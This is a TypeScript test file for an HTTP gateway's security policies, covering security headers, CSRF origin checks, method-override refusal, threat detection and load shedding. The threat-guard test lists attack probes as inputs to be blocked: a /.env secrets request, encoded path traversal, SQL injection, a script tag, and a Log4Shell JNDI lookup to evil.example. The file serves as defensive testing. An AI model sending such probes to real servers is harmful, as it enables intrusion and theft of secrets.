import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { PolicyUse } from '../../src/policies/use.ts';
import type { DataPlaneConfig } from '../../src/server/config.ts';
import { HOST, request } from '../conformance/case.ts';
import { configBefore, startGatewayWith } from '../support/gateway.ts';
import { fine } from '../support/policy-play.ts';
import { RawClient } from '../support/raw-client.ts';
import { answer, type Script, ScriptedUpstream } from '../support/scripted-upstream.ts';

/** A request line and field lines beside Host, and what comes back: 200, or status and code, with the fields that matter. */
type Row = readonly [
  line: string,
  fields: readonly string[],
  expected: string,
  answered?: Readonly<Record<string, string | undefined>>,
];

/** Sends the rows one after the other on one connection, behind a listener that believes this machine's proxies. */
async function checkTable(policies: readonly PolicyUse[], rows: readonly Row[], script: Script = fine) {
  await using upstream = await ScriptedUpstream.start(script);
  const config = configBefore(upstream.url, { forwarding: { trust: ['127.0.0.0/8'] } });
  const main = { ...config.routes['main'], policies } as DataPlaneConfig['routes'][string];
  await using gateway = await startGatewayWith({ ...config, routes: { main } });
  using client = await RawClient.connect({ port: gateway.port });
  for (const [line, fields, expected, answered = {}] of rows) {
    await client.send(request([`${line} HTTP/1.1`, HOST, ...fields]));
    const got = await client.answer();
    const code = got.status < 400 ? '' : ` ${(JSON.parse(got.body.toString()) as { code: string }).code}`;
    const title = `${line} ${fields.join(', ')}`;
    assert.equal(`${got.status}${code}`, expected, title);
    for (const name in answered) assert.equal(got.get(name), answered[name], `${name} of ${title}`);
  }
  return { gateway, upstream };
}

const COOKIE = 'Cookie: session=1';
const SECURE = 'X-Forwarded-Proto: https';

describe('Over sockets', () => {
  it('security-headers: the answer has them, with HSTS where the client came by https', async () => {
    const telling: Script = async (connection) => {
      for (;;) {
        await connection.head();
        await connection.send(answer(200, 'fine', { Server: 'nginx', 'X-Frame-Options': 'SAMEORIGIN' }));
      }
    };
    const fields = {
      server: undefined,
      'x-frame-options': 'SAMEORIGIN',
      'x-content-type-options': 'nosniff',
    };
    const hsts = 'max-age=31536000; includeSubDomains';
    await checkTable(
      [{ name: 'security-headers', options: {} }],
      [
        ['GET /', [], '200', { ...fields, 'strict-transport-security': undefined }],
        ['GET /', [SECURE], '200', { ...fields, 'strict-transport-security': hsts }],
      ],
      telling,
    );
  });

  it('security-headers: an answer of the gateway’s own has them, too', async () => {
    const fields = {
      'strict-transport-security': 'max-age=31536000; includeSubDomains',
      'x-frame-options': 'DENY',
    };
    await checkTable(
      [
        { name: 'method-override', options: {} },
        { name: 'security-headers', options: {} },
      ],
      [['GET /?_method=PUT', [SECURE], '400 method_override_refused', fields]],
    );
  });

  it('csrf: the origin is compared to what the client used, as a trusted proxy tells it', async () => {
    const own = 'Origin: http://a.example';
    const refused = '403 csrf_rejected';
    const socket = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'];
    await checkTable(
      [{ name: 'csrf', options: { origins: ['https://pay.example'] } }],
      [
        ['GET /', [COOKIE], '200'],
        ['POST /', ['Content-Length: 0'], '200'],
        ['POST /', [COOKIE, own, 'Content-Length: 0'], '200'],
        ['POST /', [COOKIE, 'Content-Length: 0'], refused],
        ['POST /', [COOKIE, 'Origin: https://evil.example', 'Content-Length: 0'], refused],
        ['POST /', [COOKIE, 'Origin: https://pay.example', 'Content-Length: 0'], '200'],
        ['DELETE /', [COOKIE, 'Sec-Fetch-Site: same-origin'], '200'],
        ['DELETE /', [COOKIE, 'Sec-Fetch-Site: cross-site', own], refused],
        ['DELETE /', [COOKIE, 'Referer: http://a.example/form'], '200'],
        ['DELETE /', [COOKIE, 'Authorization: Bearer x'], '200'],
        ['DELETE /', [COOKIE, SECURE, own], refused],
        ['DELETE /', [COOKIE, SECURE, 'Origin: https://a.example'], '200'],
        [
          'DELETE /',
          [COOKIE, SECURE, 'X-Forwarded-Host: shop.example:443', 'Origin: https://shop.example'],
          '200',
        ],
        [
          'DELETE /',
          [COOKIE, SECURE, 'X-Forwarded-Host: shop.example', 'Origin: https://a.example'],
          refused,
        ],
        [
          'GET /',
          [COOKIE, ...socket, 'Sec-WebSocket-Key: dGVzdA==', 'Origin: https://evil.example'],
          refused,
        ],
      ],
    );
  });

  it('method-override: a second method is refused, and stripped where that is wanted', async () => {
    const refused = '400 method_override_refused';
    await checkTable(
      [{ name: 'method-override', options: {} }],
      [
        ['GET /?method=PUT', ['X-Method: PUT'], '200'],
        ['GET /', ['X-HTTP-Method-Override: PUT'], refused],
        ['GET /', ['x_http_method: PUT'], refused],
        ['GET /?a=1&%5fmethod=PUT', [], refused],
      ],
    );
    const { upstream } = await checkTable(
      [{ name: 'method-override', options: { action: 'strip' } }],
      [['GET /x?a=1&_method=PUT', ['X-HTTP-Method-Override: PUT', 'X-A: 1'], '200']],
    );
    const sent = upstream.connections[0]?.text ?? '';
    assert.match(sent, /^GET \/x\?a=1 HTTP\/1\.1\r\n/);
    assert.match(sent, /\r\nX-A: 1\r\n/);
    assert.doesNotMatch(sent, /override/i);
  });

  it('threat-guard: probes are refused, counted, and never reach the service', async () => {
    const refused = '403 threat_detected';
    const { gateway, upstream } = await checkTable(
      [{ name: 'threat-guard', options: {} }],
      [
        ['GET /?q=O%27Brien+--+9.99', ['User-Agent: curl/8.5.0'], '200'],
        ['GET /.env', [], refused],
        ['GET /a/%252e%252e%252fb', [], refused],
        ['GET /?id=1%27+or+%271%27=%271', [], refused],
        ['GET /?q=%3Cscript%3Ealert(1)', [], refused],
        ['GET /', ['User-Agent: ${jndi:ldap://evil.example/a}'], refused],
      ],
    );
    assert.equal(upstream.connections[0]?.text.match(/ HTTP\/1\.1\r\n/g)?.length, 1);
    assert.equal(gateway.warnings.length, 5);
    assert.match(gateway.warnings[2] as string, /: sql-tautology in the parameter "id"$/);
    assert.deepEqual(
      gateway.accessLog().map(({ code }) => code),
      [undefined, ...Array<string>(5).fill('threat_detected')],
    );
  });

  it('threat-guard: in report mode they pass, and are counted', async () => {
    const { gateway } = await checkTable(
      [{ name: 'threat-guard', options: { mode: 'report' } }],
      [
        ['GET /.env', [], '200'],
        ['GET /.env', [], '200'],
      ],
    );
    assert.equal(gateway.warnings.length, 1);
  });

  for (const [priority, expected, retryAfter] of [
    ['low', '503 overloaded', '2'],
    ['high', '503 overloaded', '2'],
    ['critical', '200', undefined],
  ] as const) {
    it(`load-shed: with its memory full it answers ${expected} to what is ${priority}`, async () => {
      // Less than any process takes.
      const options = { priority, memory: { start: 0.000001, full: 0.00001 } };
      await checkTable(
        [{ name: 'load-shed', options }],
        [['GET /', [], expected, { 'retry-after': retryAfter }]],
      );
    });
  }

  it('load-shed: a worker that is kept busy refuses', async () => {
    await using upstream = await ScriptedUpstream.start(fine);
    const config = configBefore(upstream.url);
    const use = {
      name: 'load-shed',
      options: { priority: 'low', eventLoop: { start: '20ms', full: '21ms' } },
    };
    const main = { ...config.routes['main'], policies: [use] } as DataPlaneConfig['routes'][string];
    await using gateway = await startGatewayWith({ ...config, routes: { main } });
    using client = await RawClient.connect({ port: gateway.port });
    let status = 200;
    for (let round = 0; round < 20 && status === 200; round++) {
      const end = performance.now() + 260;
      while (performance.now() < end);
      await client.send(request(['GET / HTTP/1.1', HOST]));
      status = (await client.answer()).status;
    }
    assert.equal(status, 503);
  });
});
